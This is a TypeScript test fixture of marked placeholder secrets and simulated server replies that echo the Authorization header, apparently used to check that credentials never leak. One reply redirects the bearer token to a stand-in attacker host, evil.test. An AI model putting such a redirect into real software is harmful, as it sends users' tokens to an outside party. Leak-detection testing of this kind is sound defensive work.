/** Secrets that can be found again, the settings full of them, and systems that repeat what they were sent. */
import type { Answer, Received } from '../systems/loopback.ts'

export const MARK = 'MARKEDSECRET'
export const marked = (what: string): string => `${MARK}-${what}`
/** As Entra writes them, and as it may write them one day. */
export const TOKENS = [`eyJhbGciOiJub25lIn0.eyJtYXJrIjoiMSJ9.${marked('signature')}`, marked('opaque-token')]

/** A real tenant's settings, each secret marked. */
export const REAL = {
  EXCHANGE_ONLINE_URL: 'real',
  GRAPH_URL: 'real',
  TENANT_ID: '11111111-2222-3333-4444-555555555555',
  SIGN_IN: 'client-secret',
  CLIENT_ID: 'c',
  CLIENT_SECRET: marked('client'),
  CLIENT_CERTIFICATE_PASSWORD: marked('certificate'),
  LDAP_URL: 'ldaps://dc1.contoso.test',
  LDAP_PASSWORD: marked('ldap'),
  BOT_APP_ID: 'b',
  BOT_SIGN_IN: 'client-secret',
  BOT_CLIENT_SECRET: marked('bot'),
  BOT_CERTIFICATE_PASSWORD: marked('bot-certificate'),
  OPERATORS: 'o',
  APPROVERS: 'a',
}

/** Every way a system can answer that repeats what it was sent. */
export const ECHOES: readonly [string, (request: Received) => Answer][] = [
  [
    'JSON',
    ({ headers }) => ({ status: 400, body: { error: { code: 'X', message: `You sent ${headers.authorization}` } } }),
  ],
  [
    'a detail',
    ({ headers }) => ({
      status: 500,
      body: { error: { details: [{ message: `Ex1|A.BException|${headers.authorization}` }] } },
    }),
  ],
  [
    'a page',
    ({ headers }) => ({ status: 502, body: `<html><h1>Bad gateway</h1><p>${headers.authorization}</p></html>` }),
  ],
  ['plain text', ({ headers }) => ({ status: 403, body: JSON.stringify(headers) })],
  [
    'a success that is none',
    ({ headers }) => ({ status: 200, body: { '@adminapi.errors': [{ message: headers.authorization }] } }),
  ],
  [
    'a redirect',
    ({ headers }) => ({
      status: 302,
      headers: { location: `https://evil.test/?token=${encodeURIComponent(String(headers.authorization))}` },
    }),
  ],
  ['half an answer', () => 'half'],
  ['no answer', () => 'cut'],
  [
    'a claims challenge',
    () => ({
      status: 401,
      headers: {
        'www-authenticate': `Bearer claims="${Buffer.from(`{"access_token": "${MARK}"}`).toString('base64')}"`,
      },
      body: { error: { code: '401', message: `claims=${marked('claims')}` } },
    }),
  ],
]
